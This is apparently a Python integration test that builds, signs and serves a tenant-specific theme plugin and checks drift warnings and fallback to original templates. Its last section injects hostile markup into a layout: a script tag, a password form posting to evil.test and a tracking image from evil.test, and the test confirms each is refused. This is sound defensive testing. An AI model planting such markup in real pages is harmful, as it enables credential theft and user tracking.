#!/usr/bin/env python3
"""Makes a partner's theme with nothing but the installed SDK, and shows that it changes the pages of the company that chose
it, and no other's; that drift is told; and that a theme which leaves something out is not shown.

Usage: partner_theme_test.py BUILD-FOLDER     (ctest calls it). Exit 0: all checks passed; 1: prints what failed.
"""
import re
import shutil
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request
from pathlib import Path

from partner_plugin_test import BUILD, ENVIRONMENT, Server, bring_packages, has, run

LAYOUT = "shared/layouts/public.html"
FOOTER = "shared/partials/footer.html"


def page(server, host):
	"""Returns the page of an address that is not there, which every company has."""
	request = urllib.request.Request(f"http://127.0.0.1:{server.port}/nowhere?lang=en", headers={"Host": host, "Accept": "text/html"})
	try:
		with urllib.request.urlopen(request, timeout=10) as answer:
			raise AssertionError(f"/nowhere answers {answer.status}")
	except urllib.error.HTTPError as error:
		assert error.code == 404, error.code
		return error.read().decode()


def edit(file, old, new):
	text = file.read_text()
	assert old in text, f"{old!r} is not in {file}"
	file.write_text(text.replace(old, new))


def main(folder):
	prefix, server = folder / "prefix", folder / "server"
	server.mkdir()
	for component in ("server", "sdk"):
		run("cmake", "--install", BUILD, "--prefix", prefix, "--component", component)
	programs, plugins, sxserver = prefix / "bin", prefix / "lib/sxserver/plugins", prefix / "bin/sxserver"

	# Start from originals, change them, build and sign.
	run(programs / "new-plugin", "com.acme.slate", "--theme", "--into", folder)
	source = folder / "slate"
	bring_packages(source)
	has(run(programs / "theme", "list", "footer", cwd=source), FOOTER)
	run(programs / "theme", "take", LAYOUT, FOOTER, cwd=source)
	layout, footer = (source / "theme" / (name + ".mustache") for name in (LAYOUT, FOOTER))
	edit(layout, "<body>", '<body class="slate">')
	edit(footer, '<footer class="sx-foot">', '<footer class="sx-foot"><p>{{t.theme.motto}}</p>')
	for language, motto in (("fr", "Sous le toit d’ardoise"), ("en", "Under a slate roof")):
		words = source / f"words/{language}.yaml"
		words.write_text(words.read_text() + f"  motto: {motto}\n")
	key = folder / "acme.key"
	public_key = run(programs / "sign-plugin", "--make-key", key).strip()

	def build():
		run(programs / "theme", "build", plugins, cwd=source)
		run(programs / "sign-plugin", plugins / "slate", "--key", key)

	config = server / "sxserver.yaml"
	config.write_text(
		"environment: production\nlisten: {port: 0}\ndata_folder: data\nplugins:\n"
		f"  enabled: [directory, com.acme.slate]\n  publishers: [{public_key}]\n"
	)

	def doctor():
		done = subprocess.run(
			[sxserver, "doctor", "--config", config], env=ENVIRONMENT, capture_output=True, text=True, timeout=120
		)
		return done.stdout + done.stderr

	# Unsigned, a theme is refused as every other plugin is.
	run(programs / "theme", "build", plugins, cwd=source)
	has(run(sxserver, "plugins", "--config", config, expect=None), "is unsigned; sign it with tools/sign-plugin")
	build()
	assert re.search(r"com\.acme\.slate\s+0\.1\.0\s+started\s+signed", run(sxserver, "plugins", "--config", config))
	run(sxserver, "tenant", "add", "--name", "Acme", "--host", "acme.localhost", "--theme", "com.acme.slate", "--config",
	    config)
	run(sxserver, "tenant", "add", "--name", "Beta", "--host", "beta.localhost", "--config", config)
	text = doctor()
	has(text, "com.acme.slate can be chosen")
	assert "was made for" not in text and "is left out" not in text, text
	with Server(prefix, config) as running:
		acme, beta = page(running, "acme.localhost"), page(running, "beta.localhost")
		has(acme, '<body class="slate">')
		has(acme, "Under a slate roof")
		sheet = re.search(r'href="(/assets/com\.acme\.slate/theme\.[^"]+\.css)" integrity="sha384-', acme)
		assert sheet and running.get(sheet.group(1))[0] == 200, "the theme's sheet is not served"
		assert "slate" not in beta, "the other company has the theme"

	# The operator's choice is for companies that made none.
	config.write_text(config.read_text() + "templates: {theme: com.acme.slate}\n")
	with Server(prefix, config) as running:
		has(page(running, "beta.localhost"), "Under a slate roof")
	edit(config, "templates: {theme: com.acme.slate}\n", "")

	# An upgrade changes an original: the theme is still shown, and both versions are told.
	original = prefix / "lib/sxserver/shared/templates" / (FOOTER.removeprefix("shared/") + ".mustache")
	original.write_text("{{! A newer footer. }}\n" + original.read_text())
	drift = r"footer\.html\.mustache was made for 1\.0\.0\+[0-9a-f]{12} and the original is 1\.0\.0\+[0-9a-f]{12}"
	text = doctor()
	assert re.search(r"warn\s+theme\s+com\.acme\.slate theme/shared/partials/" + drift, text), text
	has(run(programs / "theme", "check", cwd=source, expect=1), FOOTER)
	run(programs / "theme", "renew", FOOTER, cwd=source)
	run(programs / "theme", "check", cwd=source)
	build()
	assert not re.search(drift, doctor())

	# A newer original that says more is not hidden by an older override: the original is shown.
	original.write_text(original.read_text() + "<p>{{tenant.host}}</p>\n")
	text = doctor()
	assert re.search(r"FAIL\s+theme\s+com\.acme\.slate theme/shared/partials/footer\S+ is left out, and the original shown: "
	                 r"leaves out .*tenant\.host", text), text
	with Server(prefix, config) as running:
		acme = page(running, "acme.localhost")
		has(acme, '<body class="slate">')
		assert "Under a slate roof" not in acme

	# A hostile layout changes nothing.
	for part, reason in (('<script src="/assets/x.js"></script>', "has what the original has not: <script"),
	                     ('<form method="post" action="https://evil.test/"><input name="password"></form>', "evil.test"),
	                     ('<img src="https://evil.test/seen.gif" alt="">', "evil.test")):
		before = layout.read_text()
		edit(layout, '<body class="slate">', '<body class="slate">' + part)
		build()
		has(doctor(), reason)
		with Server(prefix, config) as running:
			assert "slate\">" not in page(running, "acme.localhost"), part
		layout.write_text(before)
	print("a partner's theme was made with the installed SDK, signed and shown to its company alone; drift was told, and "
	      "what a theme may not do refused")


if __name__ == "__main__":
	place = Path(tempfile.mkdtemp(prefix="sx-theme-"))
	try:
		main(place)
	except (AssertionError, subprocess.TimeoutExpired) as problem:
		sys.exit(f"partner_theme_test: {problem}")
	finally:
		shutil.rmtree(place, ignore_errors=True)
